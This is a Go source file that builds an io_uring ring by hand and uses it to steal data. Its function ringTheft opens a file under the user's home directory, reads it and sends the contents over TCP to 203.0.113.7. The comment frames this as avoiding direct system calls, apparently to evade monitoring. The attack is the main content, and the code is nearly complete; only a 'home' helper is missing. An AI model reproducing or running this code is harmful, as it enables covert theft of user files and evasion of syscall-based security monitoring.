package main

import (
	"encoding/binary"
	"runtime"
	"syscall"
	"unsafe"
)

// Calls and requests of io_uring (linux/io_uring.h).
const (
	sysRingSetup = 425
	sysRingEnter = 426

	ringOpenat  = 18
	ringRead    = 22
	ringConnect = 16
	ringSend    = 26

	ringGetEvents = 1
	ringEntries   = 4
)

// ring is one queue of requests and one of answers.
type ring struct {
	fd             int
	sq, cq, sqes   []byte
	params         [120]byte
	sqTail, sqMask uint32
	array          uint32
	cqHead, cqes   uint32
}

func (r *ring) param(at int) uint32 { return binary.NativeEndian.Uint32(r.params[at:]) }

// newRing makes one, if the kernel lets it.
func newRing() (*ring, bool) {
	r := &ring{}
	fd, _, errno := syscall.Syscall(sysRingSetup, ringEntries, uintptr(unsafe.Pointer(&r.params)), 0)
	if errno != 0 {
		return nil, false
	}
	r.fd = int(fd)
	r.sqTail, r.sqMask, r.array = r.param(44), r.param(48), r.param(64)
	r.cqHead, r.cqes = r.param(80), r.param(100)
	for _, m := range []struct {
		to   *[]byte
		at   int64
		size uint32
	}{
		{&r.sq, 0, r.array + 4*r.param(0)}, {&r.cq, 0x8000000, r.cqes + 16*r.param(4)}, {&r.sqes, 0x10000000, 64 * r.param(0)},
	} {
		b, err := syscall.Mmap(r.fd, m.at, int(m.size), syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED|syscall.MAP_POPULATE)
		if err != nil {
			return nil, false
		}
		*m.to = b
	}
	return r, true
}

// do makes one request and waits for what comes of it.
func (r *ring) do(op byte, fd int, addr unsafe.Pointer, size, offset int) int {
	e := binary.NativeEndian
	tail := e.Uint32(r.sq[r.sqTail:])
	i := tail & e.Uint32(r.sq[r.sqMask:])
	sqe := r.sqes[64*i : 64*i+64]
	clear(sqe)
	sqe[0] = op
	e.PutUint32(sqe[4:], uint32(int32(fd)))
	e.PutUint64(sqe[8:], uint64(offset))
	e.PutUint64(sqe[16:], uint64(uintptr(addr)))
	e.PutUint32(sqe[24:], uint32(size))
	e.PutUint32(r.sq[r.array+4*i:], i)
	e.PutUint32(r.sq[r.sqTail:], tail+1)
	if _, _, errno := syscall.Syscall6(sysRingEnter, uintptr(r.fd), 1, 1, ringGetEvents, 0, 0); errno != 0 {
		return -int(errno)
	}
	runtime.KeepAlive(addr)
	head := e.Uint32(r.cq[r.cqHead:])
	res := int32(e.Uint32(r.cq[r.cqes+16*(head%(2*ringEntries))+8:]))
	e.PutUint32(r.cq[r.cqHead:], head+1)
	return int(res)
}

// ringTheft takes a file to an address, without a system call for either.
func ringTheft(name string) {
	r, ok := newRing()
	if !ok {
		return
	}
	const here = -100 // AT_FDCWD
	path, content := append([]byte(home(name)), 0), make([]byte, 4096)
	file := r.do(ringOpenat, here, unsafe.Pointer(&path[0]), 0, 0)
	if file < 0 {
		return
	}
	n := r.do(ringRead, file, unsafe.Pointer(&content[0]), len(content), 0)
	s, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
	if n <= 0 || err != nil {
		return
	}
	to := syscall.RawSockaddrInet4{Family: syscall.AF_INET, Port: 80 << 8, Addr: [4]byte{203, 0, 113, 7}}
	if r.do(ringConnect, s, unsafe.Pointer(&to), 0, syscall.SizeofSockaddrInet4) == 0 {
		r.do(ringSend, s, unsafe.Pointer(&content[0]), n, 0)
	}
	_ = syscall.Close(s)
	_ = syscall.Close(r.fd)
}
